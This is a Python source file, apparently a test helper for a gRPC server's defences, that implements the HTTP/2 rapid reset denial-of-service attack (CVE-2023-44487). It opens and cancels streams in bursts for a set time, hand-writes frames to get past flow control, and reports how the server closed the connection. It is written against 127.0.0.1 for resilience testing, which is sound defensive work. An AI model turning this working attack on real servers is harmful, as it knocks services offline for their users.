"""A rapid reset attacker (CVE-2023-44487) on one HTTP/2 connection, written with h2.

Run as a process of its own, as a real attacker is (`python reset_attack.py PORT SECONDS`
prints what it saw as JSON): run as threads of the test's process, which also runs the server,
it took the GIL from the server's event loop, core failed streams only as fast as that loop
took them (50-200 a second), and closing an attacker took up to 19 s.
"""

from __future__ import annotations

import dataclasses
import json
import socket
import sys
import time
from dataclasses import dataclass

import h2.config
import h2.connection

EMPTY_MESSAGE = b"\x00\x00\x00\x00\x00"  # a gRPC frame of an empty request
SEND_TIMEOUT_S = 10.0  # the attacker's sends: a server that stops reading must not hang it


@dataclass
class Attack:
    """What one rapid reset connection saw."""

    streams: int  # opened and reset
    closed: str  # "goaway <code>", "eof", an error's name, or "" (still open at the end)
    seconds: float  # from the first stream until the server closed it (or the attack ended)


def rapid_reset(port: int, seconds: float, method: str = "GetServerInfo") -> Attack:
    """Open and reset calls on one HTTP/2 connection as fast as it can, for at most `seconds`;
    stop when the server closes it. An attack bounded by time, not by a count: a fast
    machine's socket buffers took 40,000 resets in 3 s, before the server's next look at its
    counters."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=SEND_TIMEOUT_S)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", f"/kafana.v1.KafanaService/{method}"),
        (":authority", f"127.0.0.1:{port}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    sent = 0
    frames = bytearray()  # what the server sent (read as frames, not fed to h2)
    start = time.monotonic()
    try:
        while time.monotonic() - start < seconds:
            burst = bytearray()
            for _ in range(50):
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, headers)
                burst += conn.data_to_send()
                burst += _frame(0x0, 0x1, stream, EMPTY_MESSAGE)  # DATA, END_STREAM
                conn.reset_stream(stream)  # RST_STREAM (CANCEL)
                burst += conn.data_to_send()
                sent += 1
            sock.sendall(burst)
            closed = _read(sock, frames, wait=0.0)
            if closed:
                return Attack(sent, closed, time.monotonic() - start)
        closed = _read(sock, frames, wait=3.0)
        return Attack(sent, closed, time.monotonic() - start)
    except TimeoutError:
        # The server stopped reading (its window is full) without closing: what did it say?
        said = _read(sock, frames, wait=3.0) or "TimeoutError"
        return Attack(sent, said, time.monotonic() - start)
    except OSError as error:
        return Attack(sent, type(error).__name__, time.monotonic() - start)
    finally:
        sock.close()


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One HTTP/2 frame, written by hand: h2 would hold DATA back once the server's flow
    control window looked used up (its WINDOW_UPDATEs are read here, never fed to h2)."""
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
    )


def _read(sock: socket.socket, frames: bytearray, wait: float) -> str:
    """What the server said: "goaway <code>", "eof", or "" if nothing closed it within `wait`
    seconds in all (a server that keeps sending PINGs cannot keep this reading). Its SETTINGS
    and PINGs are acknowledged, as a client must (else the server closes the connection
    itself, SETTINGS_TIMEOUT); frames not yet whole stay in `frames`."""
    deadline = time.monotonic() + wait
    sock.setblocking(wait > 0)
    try:
        while True:
            if wait > 0:
                left = deadline - time.monotonic()
                if left <= 0:
                    return ""
                sock.settimeout(left)
            data = sock.recv(65536)
            if not data:
                return "eof"
            frames += data
            code, answer = _answer(frames)
            if code is not None:
                return f"goaway {code}"
            if answer:
                sock.sendall(answer)
    except (BlockingIOError, TimeoutError):
        return ""
    finally:
        sock.settimeout(SEND_TIMEOUT_S)  # a send the server never reads fails, never hangs


def _answer(frames: bytearray) -> tuple[int | None, bytes]:
    """The error code of a GOAWAY among the whole frames of `frames` (None: none), and the
    acknowledgements they need; the whole frames are taken off `frames`."""
    at, answer = 0, bytearray()
    while at + 9 <= len(frames):
        length, kind, flags = (
            int.from_bytes(frames[at : at + 3], "big"),
            frames[at + 3],
            frames[at + 4],
        )
        if at + 9 + length > len(frames):
            break
        payload = bytes(frames[at + 9 : at + 9 + length])
        at += 9 + length
        if kind == 0x7:  # GOAWAY: last stream id, then the error code
            return int.from_bytes(payload[4:8], "big"), b""
        if kind == 0x4 and not flags & 0x1:  # SETTINGS: ACK
            answer += _frame(0x4, 0x1, 0, b"")
        if kind == 0x6 and not flags & 0x1:  # PING: ACK with its data
            answer += _frame(0x6, 0x1, 0, payload)
    del frames[:at]
    return None, bytes(answer)


if __name__ == "__main__":
    print(json.dumps(dataclasses.asdict(rapid_reset(int(sys.argv[1]), float(sys.argv[2])))))
